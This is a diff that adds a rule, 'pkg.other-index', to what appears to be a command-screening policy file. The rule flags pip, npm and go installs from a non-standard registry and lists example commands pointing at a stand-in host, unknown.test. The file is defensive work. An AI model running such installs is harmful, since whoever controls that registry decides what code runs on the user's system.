@@ -28,6 +28,19 @@ RULES = (
         passes=("pip install -e .", "npm install",),
     ),
     Rule(
+        id="pkg.other-index",
+        title="takes packages from a registry that is not one of the usual ones",
+        why="Whoever runs that registry decides what code is installed, under the names of well-known packages too.",
+        instead="Leave the registry as the project's settings have it, or name the one to use to the user.",
+        match=on(Installs, has={"other-index"}),
+        action=ASK, tags=frozenset({"supply-chain", "attack.t1195"}),
+        catches=(
+            "pip install --index-url http://unknown.test/simple x", "npm install --registry http://unknown.test x",
+            "PIP_INDEX_URL=http://unknown.test/simple pip install x", "GOPROXY=http://unknown.test go get example.com/x",
+        ),
+        passes=("pip install -r requirements.txt --index-url https://pypi.org/simple", "npm ci --registry https://registry.npmjs.org", "go get example.com/x",),
+    ),
+    Rule(
         id="pkg.install-named",
         title="adds a package to the project",
         why="Its install scripts run at once, and its code runs with the project.",
